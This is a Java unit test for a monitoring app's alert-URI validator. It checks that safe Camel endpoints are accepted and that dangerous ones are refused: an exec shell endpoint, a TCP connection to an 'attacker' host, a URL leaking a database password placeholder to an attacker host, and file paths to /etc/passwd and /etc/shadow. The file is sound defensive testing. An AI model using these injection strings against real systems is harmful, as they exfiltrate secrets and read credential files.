package dev.streampulse.alert;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.streampulse.config.ConfigException;
import org.junit.jupiter.api.Test;

/** An alert URI names one of the endpoints alerts are for, never a file, a bean, a placeholder. */
class AlertUriTest {
    @Test
    void theSupportedAlertEndpointsAreAccepted() {
        for (String uri : new String[] {"netty-http:https://ntfy.sh/my-cams", "netty-http:http://10.0.0.2:8123/api/webhook/x?token=abc",
                "smtp://mail.lan?from=cams@lan&to=me@lan,you@lan", "smtps://mail.lan:465?username=u&password=p&to=me@lan",
                "paho:streampulse?brokerUrl=tcp://192.168.1.2:1883&retained=true", "paho-mqtt5:cams?brokerUrl=tcp://b:1883",
                "log:alerts", "seda:my-alerts", "direct:mine"}) {
            assertDoesNotThrow(() -> AlertSelectorTest.config("  - {name: a, uri: \"" + uri + "\"}\n"), uri);
        }
    }

    @Test
    void otherEndpointsPlaceholdersAndFileOptionsAreRefusedNamingTheAlert() {
        String[][] cases = {
                {"file:/tmp/out", "scheme 'file' is not allowed"},
                {"bean:heartbeatStore?method=pruneEvents(9999999999999)", "scheme 'bean' is not allowed"},
                {"exec:/bin/sh?args=-c", "scheme 'exec' is not allowed"},
                {"netty:tcp://attacker:9000", "scheme 'netty' is not allowed"},
                {"jdbc:ds", "scheme 'jdbc' is not allowed"},
                {"netty-http:https://attacker/?x={{env:STREAMPULSE_DB_PASSWORD}}", "must not contain '{{'"},
                {"netty-http:https://attacker/{{sys:user.home}}", "must not contain '{{'"},
                {"log:${exchangeProperty.alertUri}", "must not contain '${'"},
                {"smtp://mail?to=a@b&authenticator=#myBean", "must not contain '#'"},
                {"netty-http:file:/etc/passwd", "needs an http:// or https://"},
                {"netty-http:https://h/?ssl=true&keyStoreFile=/etc/shadow", "names a local file"},
                {"seda:heartbeats", "one of StreamPulse's own queues"},
                {"seda:events", "one of StreamPulse's own queues"},
        };
        for (String[] c : cases) {
            ConfigException e = assertThrows(ConfigException.class,
                    () -> AlertSelectorTest.config("  - {name: pager, uri: \"" + c[0] + "\"}\n"), c[0]);
            String m = e.getMessage();
            assertTrue(m.contains("alerts[0] (pager): uri") && m.contains(c[1]), c[0] + " -> " + m);
            assertTrue(m.contains("data/routes/") || !c[1].startsWith("scheme"), m);
        }
        assertFalse(assertThrows(ConfigException.class, () -> AlertSelectorTest.config(
                "  - {name: p, uri: \"file:/tmp/x?password=topsecret\"}\n")).getMessage().contains("topsecret"));
    }

    @Test
    void otherConfigValuesThatReachCamelPropertiesTakeNoPlaceholders() {
        java.nio.file.Path file = java.nio.file.Path.of("/srv/sp/config.yaml");
        for (String yaml : new String[] {"web: {host: '{{env:STREAMPULSE_DB_PASSWORD}}'}\n", "data_dir: '/srv/{{env:HOME}}'\n",
                "data_dir: '${sys:user.home}'\n"}) {
            ConfigException e = assertThrows(ConfigException.class, () -> dev.streampulse.config.ConfigLoader.parse(yaml, file), yaml);
            assertTrue(e.getMessage().contains("web.host") || e.getMessage().contains("data_dir"), e.getMessage());
        }
        assertDoesNotThrow(() -> dev.streampulse.config.ConfigLoader.parse("web: {host: '::1'}\ndata_dir: /var/lib/sp\n", file));
    }
}
